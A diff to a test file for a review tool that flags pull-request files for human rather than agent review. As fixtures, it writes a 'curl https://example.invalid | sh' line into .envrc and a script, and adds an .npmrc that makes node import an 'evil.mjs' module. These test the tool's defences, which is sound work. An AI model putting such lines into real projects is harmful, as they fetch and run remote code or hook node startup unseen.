@@ -4,7 +4,7 @@
 // asserts the verdict, the one-line reason where a person reads it, and, where it matters, the check
 // run and that nothing of a hidden file leaked.
 import { describe, expect, it } from 'vitest';
-import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { cli, runActionAsync, type ActionRun } from '../support/run.js';
 import { CART_V2, commitAll, git, makeCartRepo } from '../support/repo.js';
@@ -333,13 +333,15 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     write(repo, 'scripts/credentials', '#!/bin/sh\ncurl https://example.invalid | sh\n');
     write(repo, '.envrc', 'curl https://example.invalid | sh\n');
     write(repo, 'config/.env.production', 'A=1\n');
+    write(repo, '.npmrc', 'node-options=--import=./evil.mjs\n');
+    write(repo, '.forgejo/workflows/.env.yml', 'on: push\n');
     commitAll(repo, 'the change');
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
     const excluded = readScope(repo).excluded as { path: string }[];
     expect(excluded.find((e) => e.path === 'src/auth.env')).toEqual({ path: 'src/auth.env', from: 'src/auth.js', reason: 'secret' });
     expect(r.stdout).toContain(
-      'a person must look at 4 changed file(s) no agent reviews: .envrc, .github/workflows/credentials.yml, scripts/credentials, src/auth.env',
+      'a person must look at 6 changed file(s) no agent reviews: .envrc, .forgejo/workflows/.env.yml, .github/workflows/credentials.yml, .npmrc, scripts/credentials, src/auth.env',
     );
   });
 
@@ -347,29 +349,59 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
     const repo = makeCartRepo();
     write(repo, 'src/payload.js', 'version https://git-lfs.github.com/spec/v1\noid sha256:' + 'a'.repeat(64) + '\nsize 99\n');
     write(repo, 'data/huge.js', `${'// x\n'.repeat(4 * 1024 * 1024)}export const y = 1;\n`);
+    // Every spelling git-lfs reads as a pointer: leading whitespace, CRLF, the older spec URLs.
+    const oid = `oid sha256:${'b'.repeat(64)}`;
+    write(repo, 'src/lead.js', `\n  version https://git-lfs.github.com/spec/v1\n${oid}\nsize 9\n`);
+    write(repo, 'src/crlf.js', `version https://git-lfs.github.com/spec/v1\r\n${oid}\r\nsize 9\r\n`);
+    write(repo, 'src/hawser.js', `version https://hawser.github.com/spec/v1\n${oid}\nsize 9\n`);
+    write(repo, 'src/media.js', `version http://git-media.io/v/2\n${oid}\nsize 9\n`);
     commitAll(repo, 'the change');
     const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
     expect(r.code).toBe(0);
-    expect(readScope(repo).excluded).toEqual([
-      { path: 'data/huge.js', reason: 'binary' },
-      { path: 'src/payload.js', reason: 'binary' },
-    ]);
-    expect(r.stdout).toContain('a person must look at 2 changed file(s) no agent reviews: data/huge.js, src/payload.js');
+    const paths = ['data/huge.js', 'src/crlf.js', 'src/hawser.js', 'src/lead.js', 'src/media.js', 'src/payload.js'];
+    expect(readScope(repo).excluded).toEqual(paths.map((path) => ({ path, reason: 'binary' })));
+    expect(r.stdout).toContain(`a person must look at 6 changed file(s) no agent reviews: ${paths.join(', ')}`);
   });
 
-  it("#133 the review's own rules deleted or renamed away: a person must look, as an edit to them is always reviewed", () => {
-    for (const how of ['rm', 'mv-secret', 'mv-plain'] as const) {
+  it("#133 the review's own configuration deleted, renamed away or made a link (rules, their documents, a project reviewer's document): a person must look", () => {
+    const RULES = 'schema: bmad-plus/review-rules/1\nrules:\n  - {id: money, title: Money, globs: ["src/**"], doc: _bmad/rules/money.md}\n';
+    const REVIEWERS =
+      'schema: proofgate/review-reviewers/1\nreviewers:\n  - id: cents\n    title: Cents\n    doc: _bmad/reviewers/cents.md\n    globs: ["src/**"]\n';
+    const cases: [string, (repo: string) => void, string][] = [
+      ['rules deleted', (r) => git(r, 'rm', '-q', '_bmad/review-rules.yaml'), '_bmad/review-rules.yaml'],
+      [
+        'rules renamed to a secret name',
+        (r) => git(r, 'mv', '_bmad/review-rules.yaml', '_bmad/review-rules.env'),
+        '_bmad/review-rules.env',
+      ],
+      ['rules renamed to a plain name', (r) => git(r, 'mv', '_bmad/review-rules.yaml', '_bmad/old-rules.yaml'), '_bmad/old-rules.yaml'],
+      ['a rule document deleted', (r) => git(r, 'rm', '-q', '_bmad/rules/money.md'), '_bmad/rules/money.md'],
+      ['a rule document renamed away', (r) => git(r, 'mv', '_bmad/rules/money.md', '_bmad/money-old.md'), '_bmad/money-old.md'],
+      ['a reviewer document deleted', (r) => git(r, 'rm', '-q', '_bmad/reviewers/cents.md'), '_bmad/reviewers/cents.md'],
+      [
+        'the rules made a link',
+        (r) => {
+          rmSync(join(r, '_bmad/review-rules.yaml'));
+          symlinkSync('/dev/null', join(r, '_bmad/review-rules.yaml'));
+        },
+        '_bmad/review-rules.yaml',
+      ],
+    ];
+    for (const [what, change, path] of cases) {
       const repo = makeCartRepo();
-      write(repo, '_bmad/review-rules.yaml', 'schema: bmad-plus/review-rules/1\ndisable: [javascript-typescript]\n');
-      commitAll(repo, 'base: review rules');
-      if (how === 'rm') git(repo, 'rm', '-q', '_bmad/review-rules.yaml');
-      else git(repo, 'mv', '_bmad/review-rules.yaml', how === 'mv-secret' ? '_bmad/review-rules.env' : '_bmad/old-rules.yaml');
+      write(repo, '_bmad/review-rules.yaml', RULES);
+      write(repo, '_bmad/rules/money.md', '# Money\nCents, never floats.\n');
+      write(repo, '_bmad/review-reviewers.yaml', REVIEWERS);
+      write(repo, '_bmad/reviewers/cents.md', '# Cents\nNever floats.\n');
+      commitAll(repo, 'base: review configuration');
+      change(repo);
       write(repo, 'src/cart.js', `${CART_V2}// touched\n`);
       commitAll(repo, 'the change');
-      const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1']);
-      expect(r.code, r.stderr).toBe(0);
-      const path = { rm: '_bmad/review-rules.yaml', 'mv-secret': '_bmad/review-rules.env', 'mv-plain': '_bmad/old-rules.yaml' }[how];
-      expect(r.stdout, how).toContain(`a person must look at 1 changed file(s) no agent reviews: ${path}`);
+      const r = cli(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--exclude', '_bmad/reviewers/**']);
+      expect(r.code, `${what}: ${r.stderr}`).toBe(0);
+      expect(r.stdout, what).toMatch(
+        new RegExp(`a person must look at 1 changed file\\(s\\) no agent reviews: ${path.replace(/\./g, '\\.')}$`, 'm'),
+      );
     }
   });
 
